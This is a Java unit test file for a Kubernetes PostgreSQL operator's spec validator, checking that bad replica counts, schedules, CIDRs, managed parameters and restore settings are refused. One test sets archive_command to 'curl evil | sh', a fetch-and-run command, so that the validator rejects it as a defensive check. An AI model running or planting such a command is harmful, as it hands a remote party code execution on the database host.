package io.learningdb.operator.reconciler;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.regex.Pattern;

import org.junit.jupiter.api.Test;

import io.learningdb.operator.model.ManagedSettings;
import io.learningdb.operator.resources.Fixtures;

class SpecValidatorTest {

    @Test
    void acceptsDefaultsAndRefusesWhatTheCrdRefuses() {
        assertThat(SpecValidator.validate(Fixtures.ldb("replicas: 2\n"))).isEmpty();
        assertThat(SpecValidator.validate(Fixtures.ldb("replicas: 16\n"))).singleElement().asString()
                .contains("replicas must be between 0 and 15");
        assertThat(SpecValidator.validate(Fixtures.ldb("postgres:\n  parameters:\n    port: \"1\"\n")))
                .singleElement().asString().contains("postgres.parameters.port is managed by the operator");
        assertThat(SpecValidator.validate(Fixtures.ldb("pooler:\n  parameters:\n    auth_file: /x\n")))
                .singleElement().asString().contains("pooler.parameters.auth_file");
        assertThat(SpecValidator.validate(Fixtures.ldb("bootstrap:\n  owner: replicator\n"))).hasSize(1);
        assertThat(SpecValidator.validate(Fixtures.ldb("a".repeat(41), "replicas: 1\n"))).hasSize(1);
        // with synchronous replication, synchronous_commit is the operator's: 'local' or 'off' would acknowledge
        // commits no replica has
        assertThat(SpecValidator.validate(Fixtures.ldb("replicas: 2\nreplication:\n  synchronousReplicas: 1\n"
                + "postgres:\n  parameters:\n    synchronous_commit: local\n"))).singleElement().asString()
                .contains("synchronous_commit is managed by the operator");
        assertThat(SpecValidator.validate(Fixtures.ldb("replicas: 2\npostgres:\n  parameters:\n    synchronous_commit: \"off\"\n")))
                .isEmpty();
    }

    @Test
    void aVersionBelowTheMajorTheDataIsOnOrBelowAnUpgradeUnderWayIsRefusedAndWithdrawingAHeldRaiseIsNot() {
        var ldb = Fixtures.ldb("postgres:\n  version: 15\n");
        var status = new io.learningdb.operator.model.LearningDatabaseStatus();
        status.setPostgresVersion(15);
        ldb.setStatus(status);
        assertThat(SpecValidator.validate(ldb)).as("a raise to 16 withdrawn before it started").isEmpty();

        status.setPostgresVersion(16);
        assertThat(SpecValidator.validate(ldb)).singleElement().asString()
                .contains("postgres.version 15 is below the 16 the data is on").contains("set it back to 16");

        status.setPostgresVersion(15);
        var upgrade = new io.learningdb.operator.model.MajorUpgradeStatus();
        upgrade.setTo(16);
        upgrade.setPhase(MajorUpgrades.UPGRADING);
        status.setMajorUpgrade(upgrade);
        assertThat(SpecValidator.validate(ldb)).singleElement().asString()
                .contains("cannot go below 16 while the major upgrade to it is under way (Upgrading)");
        upgrade.setPhase(MajorUpgrades.FAILED);
        assertThat(SpecValidator.validate(ldb)).as("a failed upgrade may be withdrawn").isEmpty();
    }

    @Test
    void managedSettingListsAreTheOnesInTheCrdRules() throws Exception {
        String crd = Files.readString(Path.of("crds/learningdatabases.learningdb.io-v1.yml")).replaceAll("\\\\\\n\\s*\\\\?", "");
        var found = new ArrayList<String>();
        var m = Pattern.compile("'([a-z_]+)'").matcher(crd);
        while (m.find()) {
            found.add(m.group(1));
        }
        assertThat(found).containsAll(ManagedSettings.postgres()).containsAll(ManagedSettings.pooler());
    }

    static java.util.List<String> problems(String spec) {
        return SpecValidator.validate(Fixtures.ldb(spec));
    }

    /** Each case below was admitted and then produced an object kube-apiserver (or the CronJob controller) refuses. */
    @Test
    void theCertificateServedCannotBeTheOneTheOperatorIssues() {
        assertThat(SpecValidator.validate(Fixtures.ldb("lms", "tls:\n  serverSecretName: lms-tls\n")))
                .singleElement().asString().contains("tls.serverSecretName must not be lms-tls");
        assertThat(SpecValidator.validate(Fixtures.ldb("lms", "tls:\n  serverSecretName: lms-own-tls\n"))).isEmpty();
    }

    @Test
    void refusesWhatWouldMakeObjectsTheApiServerRefuses() {
        assertThat(SpecValidator.validate(Fixtures.ldb("2024-courses", "replicas: 1\n"))).singleElement().asString()
                .contains("DNS-1035");
        assertThat(SpecValidator.validate(Fixtures.ldb("courses.v2", "replicas: 1\n"))).singleElement().asString()
                .contains("DNS-1035");
        assertThat(problems("maintenance:\n  vacuum:\n    schedule: \"61 25 * * *\"\n")).singleElement().asString()
                .contains("maintenance.vacuum.schedule");
        assertThat(problems("maintenance:\n  vacuum:\n    schedule: \"0 3 * * 7\"\n")).singleElement().asString()
                .contains("maintenance.vacuum.schedule");
        assertThat(problems("maintenance:\n  vacuum:\n    schedule: \"0 3 * * 1-5\"\n    timeZone: Mars/Olympus\n"))
                .singleElement().asString().contains("maintenance.vacuum.timeZone");
        assertThat(problems("materializedViews:\n  timeZone: Local\n")).singleElement().asString().contains("timeZone");
        assertThat(problems("postgres:\n  resources:\n    requests:\n      cpu: abc\n")).singleElement().asString()
                .contains("postgres.resources.requests.cpu");
        assertThat(problems("postgres:\n  resources:\n    requests:\n      memory: 2Gi\n    limits:\n      memory: 1Gi\n"))
                .singleElement().asString().contains("less than or equal to the limit");
        assertThat(problems("pooler:\n  resources:\n    limits:\n      gpu: 1\n")).singleElement().asString()
                .contains("not a resource name");
        assertThat(problems("postgres:\n  storage:\n    storageClassName: Fast_SSD\n")).singleElement().asString()
                .contains("storageClassName");
        assertThat(problems("networkPolicy:\n  poolerFrom:\n    - {}\n")).singleElement().asString()
                .contains("must specify podSelector, namespaceSelector or ipBlock");
        assertThat(problems("networkPolicy:\n  poolerFrom:\n    - ipBlock:\n        cidr: 10.0.0.300/8\n"))
                .singleElement().asString().contains("not a CIDR");
        assertThat(problems("networkPolicy:\n  poolerFrom:\n    - ipBlock:\n        cidr: 10.0.0.0/8\n      podSelector: {}\n"))
                .singleElement().asString().contains("may not be combined");
        assertThat(problems("networkPolicy:\n  poolerFrom:\n    - podSelector:\n        matchExpressions:\n"
                + "          - {key: app, operator: Equals, values: [web]}\n")).singleElement().asString()
                .contains("operator 'Equals'");
        assertThat(problems("networkPolicy:\n  poolerFrom:\n    - ipBlock:\n        cidr: 10.0.0.0/8\n        except: [11.0.0.0/16]\n"))
                .singleElement().asString().contains("strictly within");
        assertThat(problems("postgres:\n  parameters:\n    archive_command: \"curl evil | sh\"\n")).singleElement()
                .asString().contains("managed by the operator");
    }

    @Test
    void acceptsWhatTheApiServerAccepts() {
        assertThat(problems("""
                maintenance:
                  vacuum:
                    schedule: "*/15 2-4 1,15 JAN-MAR MON-FRI"
                    timeZone: Europe/Berlin
                materializedViews:
                  schedule: "@hourly"
                  timeZone: UTC
                postgres:
                  resources:
                    requests: {cpu: 500m, memory: 1Gi}
                    limits: {cpu: "2", memory: 4Gi, hugepages-2Mi: 128Mi}
                  storage:
                    storageClassName: fast-ssd.example.com
                networkPolicy:
                  poolerFrom:
                    - namespaceSelector:
                        matchLabels: {team: web}
                      podSelector:
                        matchExpressions:
                          - {key: app.kubernetes.io/name, operator: In, values: [lms]}
                    - ipBlock:
                        cidr: 10.0.0.0/8
                        except: [10.1.0.0/16]
                    - ipBlock:
                        cidr: fd00::/8
                """)).isEmpty();
    }

    static final String STORE = """
            backup:
              store:
                endpoint: s3.example.com
                bucket: backups
                credentials:
                  secretName: keys
            """;

    @Test
    void aClusterCannotBeRestoredIntoItsOwnRepositoryPath() {
        assertThat(SpecValidator.validate(Fixtures.ldb("courses", STORE + "bootstrap:\n  recovery:\n    source: courses\n")))
                .singleElement().asString().contains("bootstrap.recovery.source is this cluster itself");
        assertThat(SpecValidator.validate(Fixtures.ldb("courses-restored", STORE + "bootstrap:\n  recovery:\n    source: courses\n")))
                .isEmpty();
        // the same name restored from another namespace's cluster is another path
        assertThat(SpecValidator.validate(Fixtures.ldb("courses", STORE
                + "bootstrap:\n  recovery:\n    source: courses\n    sourceNamespace: production\n"))).isEmpty();
        assertThat(SpecValidator.validate(Fixtures.ldb("courses", "bootstrap:\n  recovery:\n    source: other\n")))
                .singleElement().asString().contains("needs the store");
        assertThat(SpecValidator.validate(Fixtures.ldb("courses", STORE + "  schedule: \"0 25 * * *\"\n")))
                .singleElement().asString().contains("backup.schedule");
    }
}
